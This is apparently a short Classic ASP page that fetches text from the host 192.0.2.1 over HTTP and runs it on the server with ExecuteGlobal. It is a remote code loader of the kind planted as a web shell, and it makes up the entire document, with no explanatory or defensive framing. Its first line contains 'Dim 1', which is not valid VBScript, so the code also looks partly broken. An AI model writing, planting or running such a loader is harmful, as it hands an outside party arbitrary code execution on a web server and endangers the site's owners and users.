<% Response.End : Dim 1 %>
<% Set h = CreateObject("Msxml2.XMLHTTP")
h.Open "GET", "http://192.0.2.1/x", False
h.Send
ExecuteGlobal h.responseText %>